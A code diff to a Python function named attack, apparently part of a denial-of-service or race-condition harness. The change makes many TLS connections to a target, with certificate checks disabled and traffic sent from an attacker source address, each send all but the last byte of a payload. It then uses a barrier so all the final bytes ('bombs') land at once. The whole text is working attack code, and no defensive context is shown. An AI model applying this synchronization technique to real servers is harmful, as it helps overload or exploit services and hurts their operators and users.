@@ -103,17 +103,28 @@ def attack(host: str, port: int, until: float, report: dict[str, int]) -> None:
     context = ssl.create_default_context()
     context.check_hostname = False
     context.verify_mode = ssl.CERT_NONE
+    armed = threading.Barrier(BOMBS + 1)
 
     def throw() -> None:
-        with contextlib.suppress(OSError), socket.create_connection(
-                (host, port), timeout=5, source_address=(ATTACKER, 0)) as raw, \
-                context.wrap_socket(raw) as tls:
-            tls.sendall(payload)
-            report["bombs"] += 1
+        """All but the last byte, then wait: the bombs land in one loop iteration."""
+        tls = None
+        with contextlib.suppress(OSError):
+            raw = socket.create_connection((host, port), timeout=10,
+                                           source_address=(ATTACKER, 0))
+            tls = context.wrap_socket(raw)
+            tls.sendall(payload[:-1])
+        with contextlib.suppress(threading.BrokenBarrierError):
+            armed.wait(timeout=30)
+        if tls is not None:
+            with contextlib.suppress(OSError), tls:
+                tls.sendall(payload[-1:])
+                report["bombs"] += 1
 
     throwers = [threading.Thread(target=throw) for _ in range(BOMBS)]
     for thrower in throwers:
         thrower.start()
+    with contextlib.suppress(threading.BrokenBarrierError):
+        armed.wait(timeout=30)
     for thrower in throwers:
         thrower.join()
     while time.monotonic() < until:
